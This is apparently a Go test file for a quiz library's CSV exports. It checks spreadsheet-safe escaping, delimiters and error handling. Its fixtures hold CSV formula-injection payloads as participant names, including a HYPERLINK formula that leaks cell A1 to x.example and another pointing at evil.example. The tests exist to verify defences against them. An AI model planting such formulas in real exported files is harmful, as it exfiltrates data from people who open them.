package kuis_test

import (
	"bytes"
	"encoding/csv"
	"errors"
	"fmt"
	"log"
	"os"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"
	"github.com/kuisboard/kuis"
)

// hostileRecap is a finished quiz whose students typed names a spreadsheet
// would run, split or misread.
func hostileRecap() kuis.Recap {
	at := time.Date(2026, 11, 30, 9, 15, 2, 125e6, time.UTC)
	names := []string{`=HYPERLINK("http://x.example/?"&A1,"Ali")`, "+62 812", "-Budi-", "@Citra", "\tTab", "\rCR", "Søren", "a;=1+2", `Siti, A.`, "Dewi"}
	r := kuis.Recap{QuizID: "kuis-01", Info: kuis.Info{Title: "Kuis", Questions: 2, Status: kuis.StatusFinished}}
	r.Questions = []kuis.QuestionResult{{Question: 1, Correct: len(names)}, {Question: 2, Correct: 0}}
	for i, n := range names {
		r.Standings = append(r.Standings, kuis.Standing{Rank: i + 1, CompetitionRank: 1, Participant: n, Score: 10})
		r.Answers = append(r.Answers, kuis.AnswerRecord{Participant: n, Question: 1, At: at})
	}
	r.Answers[len(names)-1].At = time.Time{} // an answer from before the log
	return r
}

// csvWriters are the recap's CSV writers, by the file the archive names
// after them.
var csvWriters = []struct {
	name  string
	write func(kuis.Recap, *bytes.Buffer, ...kuis.CSVOption) error
}{
	{"standings", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error { return r.WriteCSV(b, o...) }},
	{"gradebook", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error { return r.WriteGradebookCSV(b, o...) }},
	{"answers", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error { return r.WriteAnswersCSV(b, o...) }},
	{"grades", func(r kuis.Recap, b *bytes.Buffer, o ...kuis.CSVOption) error {
		return r.WriteGradesCSV(b, hostileRoster, o...)
	}},
}

// hostileRoster enrols two of hostileRecap's participants and a student,
// absent, whose name a spreadsheet would run.
var hostileRoster = []kuis.Student{{ID: "s-01", Name: "@Citra"}, {ID: "s-02", Name: "=1+1"}, {ID: "s-03", Name: "Dewi"}}

// TestCSVDefaultBytes pins the default form byte for byte: encoding/csv's,
// names as stored, whatever a spreadsheet would make of them, so that an
// archive reads back exactly.
func TestCSVDefaultBytes(t *testing.T) {
	t.Parallel()
	rows := []string{
		`"=HYPERLINK(""http://x.example/?""&A1,""Ali"")"`, "+62 812", "-Budi-", "@Citra", "\"\tTab\"", "\"\rCR\"", "Søren", "a;=1+2", `"Siti, A."`, "Dewi",
	}
	var standings, gradebook, answers, grades strings.Builder
	grades.WriteString("student_id,name,attendance,score,possible,q1,q2\n" +
		"s-01,@Citra,present,10,20,1,0\n" + "s-02,=1+1,absent,,20,,\n" + "s-03,Dewi,present,10,20,1,0\n")
	standings.WriteString("rank,competition_rank,participant,score,correct_answers\n")
	gradebook.WriteString("participant,score,1,2\n")
	answers.WriteString("participant,question,answered_at\n")
	for i, n := range rows {
		fmt.Fprintf(&standings, "%d,1,%s,10,1\n", i+1, n)
		fmt.Fprintf(&gradebook, "%s,10,1,0\n", n)
		if n != "@Citra" && n != "Dewi" {
			fmt.Fprintf(&grades, ",%s,not_enrolled,10,20,1,0\n", n)
		}
		at := "2026-11-30T09:15:02.125Z"
		if i == len(rows)-1 {
			at = ""
		}
		fmt.Fprintf(&answers, "%s,1,%s\n", n, at)
	}
	want := map[string]string{"standings": standings.String(), "gradebook": gradebook.String(), "answers": answers.String(), "grades": grades.String()}
	for _, w := range csvWriters {
		for _, opts := range [][]kuis.CSVOption{nil, {nil}} { // a nil option is no option
			var buf bytes.Buffer
			if err := w.write(hostileRecap(), &buf, opts...); err != nil {
				t.Fatal(err)
			}
			if diff := cmp.Diff(want[w.name], buf.String()); diff != "" {
				t.Errorf("%s, options %v: default form (-want +got):\n%s", w.name, opts, diff)
			}
		}
	}
}

// TestCSVForSpreadsheet: a BOM, every cell quoted, CRLF, and a single quote
// before each cell a spreadsheet would run as a formula, and before no other;
// encoding/csv reads the file back to the default form's cells, those with a
// quote added aside.
func TestCSVForSpreadsheet(t *testing.T) {
	t.Parallel()
	r := hostileRecap()
	var buf bytes.Buffer
	if err := r.WriteCSV(&buf, kuis.ForSpreadsheet()); err != nil {
		t.Fatal(err)
	}
	want := "\uFEFF" + `"rank","competition_rank","participant","score","correct_answers"` + "\r\n" +
		`"1","1","'=HYPERLINK(""http://x.example/?""&A1,""Ali"")","10","1"` + "\r\n" +
		`"2","1","'+62 812","10","1"` + "\r\n" +
		`"3","1","'-Budi-","10","1"` + "\r\n" +
		`"4","1","'@Citra","10","1"` + "\r\n" +
		`"5","1","'` + "\tTab" + `","10","1"` + "\r\n" +
		`"6","1","'` + "\rCR" + `","10","1"` + "\r\n" +
		`"7","1","Søren","10","1"` + "\r\n" +
		`"8","1","a;=1+2","10","1"` + "\r\n" +
		`"9","1","Siti, A.","10","1"` + "\r\n" +
		`"10","1","Dewi","10","1"` + "\r\n"
	if diff := cmp.Diff(want, buf.String()); diff != "" {
		t.Errorf("WriteCSV(ForSpreadsheet) (-want +got):\n%s", diff)
	}

	for _, w := range csvWriters {
		var plain, sheet bytes.Buffer
		if err := w.write(r, &plain); err != nil {
			t.Fatal(err)
		}
		if err := w.write(r, &sheet, kuis.ForSpreadsheet()); err != nil {
			t.Fatal(err)
		}
		body, ok := strings.CutPrefix(sheet.String(), "\uFEFF")
		if !ok {
			t.Errorf("%s: spreadsheet form does not start with a UTF-8 BOM: %q", w.name, sheet.String())
		}
		wantRows, err := csv.NewReader(&plain).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, row := range wantRows {
			for i, cell := range row {
				if cell != "" && strings.ContainsAny(cell[:1], "=+-@\t\r") {
					row[i] = "'" + cell
				}
			}
		}
		gotRows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
		if err != nil {
			t.Fatalf("%s: reading the spreadsheet form back: %v", w.name, err)
		}
		// encoding/csv reads a quoted CR before LF as it is, but turns
		// "\r\n" inside a quoted field into "\n"; no cell here has one.
		if diff := cmp.Diff(wantRows, gotRows); diff != "" {
			t.Errorf("%s: spreadsheet form read back (-want +got):\n%s", w.name, diff)
		}
	}
}

// TestCSVWithDelimiter: WithDelimiter separates the fields of each of the
// quiz's CSVs, in either form, with its rune; encoding/csv reads the file back
// with Comma set to it to the default form's cells (a name holding the
// delimiter, "a;=1+2", quoted); a delimiter encoding/csv refuses is
// ErrInvalidOption from every writer, with nothing written.
func TestCSVWithDelimiter(t *testing.T) {
	t.Parallel()
	r := hostileRecap()
	var buf bytes.Buffer
	if err := r.WriteCSV(&buf, kuis.WithDelimiter(';')); err != nil {
		t.Fatal(err)
	}
	head, _, _ := strings.Cut(buf.String(), "\n8;")
	if want := "rank;competition_rank;participant;score;correct_answers\n"; !strings.HasPrefix(head, want) {
		t.Errorf("WriteCSV(WithDelimiter(';')) starts %q, want %q", head, want)
	}
	if want := "\n8;1;\"a;=1+2\";10;1\n"; !strings.Contains(buf.String(), want) {
		t.Errorf("WriteCSV(WithDelimiter(';')) = %q; want the row %q", buf.String(), want)
	}
	for _, w := range csvWriters {
		var plain bytes.Buffer
		if err := w.write(r, &plain); err != nil {
			t.Fatal(err)
		}
		want, err := csv.NewReader(&plain).ReadAll()
		if err != nil {
			t.Fatal(err)
		}
		for _, comma := range []rune{';', '\t', '|', '،'} {
			for _, sheet := range []bool{false, true} {
				opts := []kuis.CSVOption{kuis.WithDelimiter(comma)}
				if sheet {
					opts = append(opts, kuis.ForSpreadsheet())
				}
				var buf bytes.Buffer
				if err := w.write(r, &buf, opts...); err != nil {
					t.Fatalf("%s, delimiter %q, spreadsheet %v: %v", w.name, comma, sheet, err)
				}
				body, _ := strings.CutPrefix(buf.String(), "\uFEFF")
				if strings.Count(strings.SplitN(body, "\n", 2)[0], string(comma)) != len(want[0])-1 {
					t.Errorf("%s, delimiter %q, spreadsheet %v: header %q", w.name, comma, sheet, strings.SplitN(body, "\n", 2)[0])
				}
				cr := csv.NewReader(strings.NewReader(body))
				cr.Comma = comma
				got, err := cr.ReadAll()
				if err != nil {
					t.Fatalf("%s, delimiter %q, spreadsheet %v: reading back: %v", w.name, comma, sheet, err)
				}
				for _, row := range got {
					for i, cell := range row {
						if sheet && strings.HasPrefix(cell, "'") {
							row[i] = cell[1:] // the quote before a formula
						}
					}
				}
				if diff := cmp.Diff(want, got); diff != "" {
					t.Errorf("%s, delimiter %q, spreadsheet %v: read back (-want +got):\n%s", w.name, comma, sheet, diff)
				}
			}
		}
		for _, comma := range []rune{0, '"', '\r', '\n', utf8.RuneError, -1, 0x110000, 0xD800} {
			for _, opts := range [][]kuis.CSVOption{{kuis.WithDelimiter(comma)}, {kuis.ForSpreadsheet(), kuis.WithDelimiter(comma)}} {
				var buf bytes.Buffer
				if err := w.write(r, &buf, opts...); !errors.Is(err, kuis.ErrInvalidOption) || buf.Len() != 0 {
					t.Errorf("%s, delimiter %U, %d options: %v, wrote %q; want ErrInvalidOption and nothing", w.name, comma, len(opts), err, buf.String())
				}
			}
		}
	}
}

// failingWriter fails every write after the first n bytes.
type failingWriter struct{ n int }

var errDiskFull = errors.New("disk full")

func (f *failingWriter) Write(p []byte) (int, error) {
	if len(p) > f.n {
		k := f.n
		f.n = 0
		return k, errDiskFull
	}
	f.n -= len(p)
	return len(p), nil
}

// TestCSVWriterErrors: each writer, in each form, returns the writer's error
// as it is, wherever the writer fails.
func TestCSVWriterErrors(t *testing.T) {
	t.Parallel()
	r := hostileRecap()
	for _, w := range csvWriters {
		for _, opts := range [][]kuis.CSVOption{nil, {kuis.ForSpreadsheet()}} {
			for _, n := range []int{0, 1, 100} {
				var got error
				fw := &failingWriter{n: n}
				switch w.name {
				case "standings":
					got = r.WriteCSV(fw, opts...)
				case "gradebook":
					got = r.WriteGradebookCSV(fw, opts...)
				case "answers":
					got = r.WriteAnswersCSV(fw, opts...)
				case "grades":
					got = r.WriteGradesCSV(fw, hostileRoster, opts...)
				}
				if !errors.Is(got, errDiskFull) {
					t.Errorf("%s, %d options, failing after %d bytes: %v, want %v", w.name, len(opts), n, got, errDiskFull)
				}
			}
		}
	}
}

// TestWriteAnswersCSV: the answers file byte for byte, its times those of the
// log entries' IDs in UTC to the millisecond. An answer of a quiz written
// before the log existed (in the answers set only) comes first, by question
// then participant, with an empty time.
func TestWriteAnswersCSV(t *testing.T) {
	t.Parallel()
	at := func(l logEntry) string { return time.UnixMilli(l.ms()).UTC().Format("2006-01-02T15:04:05.000Z") }
	t.Run("logged", func(t *testing.T) {
		e := newEnv(t)
		id, _, b := e.running(2)
		playInTurn(e, b, turn{"Siti, A.", 2}, turn{`Budi "B"`, 1})
		l := answerLog(e, e.keys(id))
		want := "participant,question,answered_at\n" +
			`"Siti, A.",1,` + at(l[0]) + "\n" +
			`"Siti, A.",2,` + at(l[1]) + "\n" +
			`"Budi ""B""",1,` + at(l[2]) + "\n"
		if diff := cmp.Diff(want, answersCSV(e, id)); diff != "" {
			t.Errorf("WriteAnswersCSV (-want +got):\n%s", diff)
		}
	})
	t.Run("before the log", func(t *testing.T) {
		e := newEnv(t)
		id := quizID()
		k := e.keys(id)
		e.mustRaw("HSET", k.Meta(), "judul", "Lama", "jumlah_soal", "10", "status", "berjalan")
		e.mustRaw("SADD", k.Answers(), "10:Ali", "2:Budi", "1:Citra", "1:Ali", "2:Ali")
		e.mustRaw("ZADD", k.Board(), "30", "Ali", "10", "Budi", "10", "Citra")
		if got := answersCSV(e, id); got != "participant,question,answered_at\n"+
			"Ali,1,\nCitra,1,\nAli,2,\nBudi,2,\nAli,10,\n" {
			t.Errorf("WriteAnswersCSV without a log = %q", got)
		}
		if _, err := e.board(id).RecordAnswer(e.ctx, "Dewi", 3); err != nil {
			t.Fatal(err)
		}
		l := answerLog(e, k)
		want := "participant,question,answered_at\n" +
			"Ali,1,\nCitra,1,\nAli,2,\nBudi,2,\nAli,10,\n" +
			"Dewi,3," + at(l[0]) + "\n"
		if diff := cmp.Diff(want, answersCSV(e, id)); diff != "" {
			t.Errorf("WriteAnswersCSV (-want +got):\n%s", diff)
		}
		recap, err := e.store.Recap(e.ctx, id)
		wantQuestions := make([]kuis.QuestionResult, 10)
		for i, n := range []int{2, 2, 1, 0, 0, 0, 0, 0, 0, 1} {
			wantQuestions[i] = kuis.QuestionResult{Question: i + 1, Correct: n}
		}
		if diff := cmp.Diff(wantQuestions, recap.Questions); err != nil || diff != "" {
			t.Errorf("Recap.Questions: %v (-want +got):\n%s", err, diff)
		}
	})
}

// answersCSV is Recap.WriteAnswersCSV of quiz id.
func answersCSV(e *env, id string) string {
	e.t.Helper()
	recap, err := e.store.Recap(e.ctx, id)
	if err != nil {
		e.t.Fatal(err)
	}
	var buf bytes.Buffer
	if err := recap.WriteAnswersCSV(&buf); err != nil {
		e.t.Fatal(err)
	}
	return buf.String()
}

// ForSpreadsheet makes a gradebook a spreadsheet opens safely: UTF-8 names
// shown as typed, and a name that would run as a formula kept as text.
func ExampleForSpreadsheet() {
	recap := kuis.Recap{
		QuizID:    "kuis-01",
		Questions: []kuis.QuestionResult{{Question: 1, Correct: 2}, {Question: 2, Correct: 1}},
		Standings: []kuis.Standing{
			{Rank: 1, CompetitionRank: 1, Participant: "Søren", Score: 20},
			{Rank: 2, CompetitionRank: 2, Participant: `=HYPERLINK("http://evil.example","Ali")`, Score: 10},
		},
		Answers: []kuis.AnswerRecord{
			{Participant: "Søren", Question: 1}, {Participant: "Søren", Question: 2},
			{Participant: `=HYPERLINK("http://evil.example","Ali")`, Question: 1},
		},
	}
	var buf bytes.Buffer
	if err := recap.WriteGradebookCSV(&buf, kuis.ForSpreadsheet()); err != nil {
		log.Fatal(err)
	}
	file, bom := strings.CutPrefix(buf.String(), "\uFEFF")
	fmt.Println("starts with a UTF-8 BOM:", bom)
	fmt.Print(strings.ReplaceAll(file, "\r\n", "\n"))

	fmt.Println("the default form, to archive:")
	if err := recap.WriteGradebookCSV(os.Stdout); err != nil {
		log.Fatal(err)
	}
	// Output:
	// starts with a UTF-8 BOM: true
	// "participant","score","1","2"
	// "Søren","20","1","1"
	// "'=HYPERLINK(""http://evil.example"",""Ali"")","10","1","0"
	// the default form, to archive:
	// participant,score,1,2
	// Søren,20,1,1
	// "=HYPERLINK(""http://evil.example"",""Ali"")",10,1,0
}
